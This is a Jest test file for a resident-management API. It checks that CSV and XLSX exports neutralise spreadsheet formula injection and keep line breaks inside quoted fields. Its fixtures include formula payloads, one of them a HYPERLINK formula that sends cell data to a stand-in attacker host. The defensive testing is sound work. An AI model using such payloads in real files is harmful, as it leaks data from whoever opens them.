/**
 * CSV exports open in Excel: a field that starts like a formula (`=`, `+`, `-`, `@`, tab, CR and
 * the full-width ＝＋－＠) is written with a leading `'` (OWASP "CSV Injection"), a field holding
 * a CR or LF is quoted so the file gains no row, XLSX cells stay text, and an exported list
 * imports back as it was.
 */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { addDays, japanDateOf } from '@zairyu/domain';
import { Api, type Keys } from '../support/api-harness.js';

let api: Api;
let org: Keys;
const today = japanDateOf(new Date());
const formulaNamed: string[] = [];

/** Names a person could be registered under, each starting like a formula. */
const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1,1)',
  '-2+3',
  '@SUM(A1:A2)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
];
/** Notes may hold tabs and line breaks: a formula behind a tab or CR, and a bare CR that must not end the row. */
const FORMULA_NOTES = ['\t=1+1', '\r=1+1', 'first line\rsecond line', 'one\nтwo\r\nthree'];

const download = (path: string) =>
  api.http
    .get(path)
    .auth(org.viewer, { type: 'bearer' })
    .buffer(true)
    .parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });

/** Read as a spreadsheet program reads it: CRLF, LF and a bare CR all end a row outside quotes. */
const csvRows = (body: Buffer) => parse(body.subarray(3).toString('utf8'), { record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];

async function registered(fullName: string, details: Record<string, string>): Promise<string> {
  const id = await api.register(org.caseworker, { fullName, ...details });
  await api
    .record(org.caseworker, id, 'ExistingStatusRecorded', today, { status: 'student', periodExpiresOn: addDays(today, 60) })
    .expect(201);
  return id;
}

beforeAll(async () => {
  api = await Api.start();
  org = await api.organisation();
  for (const [index, name] of FORMULA_NAMES.entries()) formulaNamed.push(await registered(name, { externalRef: `F-${index}` }));
  for (const [index, notes] of FORMULA_NOTES.entries()) await registered(`NOTES PERSON ${index}`, { notes });
});
afterAll(() => api.close());

test('residents.csv: each formula prefix is written after a quote mark, a CR or LF stays inside its quoted field, one row per resident', async () => {
  const [header, ...rows] = csvRows((await download('/v1/residents.csv').expect(200)).body as Buffer);
  expect(rows).toHaveLength(FORMULA_NAMES.length + FORMULA_NOTES.length);
  const nameAt = header!.indexOf('氏名');
  const notesAt = header!.indexOf('備考');
  const names = rows.map((row) => row[nameAt]);
  for (const name of FORMULA_NAMES) expect(names).toContain(`'${name}`);
  const notes = rows.filter((row) => row[nameAt]!.startsWith('NOTES PERSON')).map((row) => row[notesAt]);
  expect(notes.sort()).toEqual(["'\t=1+1", "'\r=1+1", 'first line\rsecond line', 'one\nтwo\r\nthree'].sort());
  // Nothing a spreadsheet would take for a formula starts a cell.
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
});

test('deadlines.csv: the resident named like a formula is written after a quote mark too', async () => {
  const [header, ...rows] = csvRows((await download('/v1/deadlines.csv?kind=period_renewal').expect(200)).body as Buffer);
  const nameAt = header!.indexOf('氏名');
  expect(rows).toHaveLength(FORMULA_NAMES.length + FORMULA_NOTES.length);
  expect(rows.map((row) => row[nameAt])).toEqual(expect.arrayContaining(FORMULA_NAMES.map((name) => `'${name}`)));
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
});

test('residents.xlsx: the same names are text cells, never formulas', async () => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await download('/v1/residents.xlsx').expect(200)).body as never);
  const sheet = workbook.worksheets[0]!;
  const names: unknown[] = [];
  sheet.eachRow((row, number) => {
    if (number > 1) names.push(row.getCell(2).value);
  });
  for (const name of FORMULA_NAMES) expect(names).toContain(name);
});

test('an exported residents.csv imports back unchanged: the quote mark before a formula is not part of the name', async () => {
  const csv = (await download('/v1/residents.csv').expect(200)).body as Buffer;
  const again = await api.http
    .post('/v1/imports?dryRun=true')
    .auth(org.caseworker, { type: 'bearer' })
    .attach('file', csv, 'residents.csv')
    .expect(200);
  const rows = again.body.results as Array<{ status: string; residentId?: string }>;
  // The half-width ones: the import reads every cell as NFKC, so a full-width ＝ comes back as = whatever the export does.
  const ascii = formulaNamed.slice(0, 4);
  const formulaRows = rows.filter((row) => row.residentId !== undefined && ascii.includes(row.residentId));
  expect(formulaRows.map((row) => row.status)).toEqual(ascii.map(() => 'unchanged'));
});
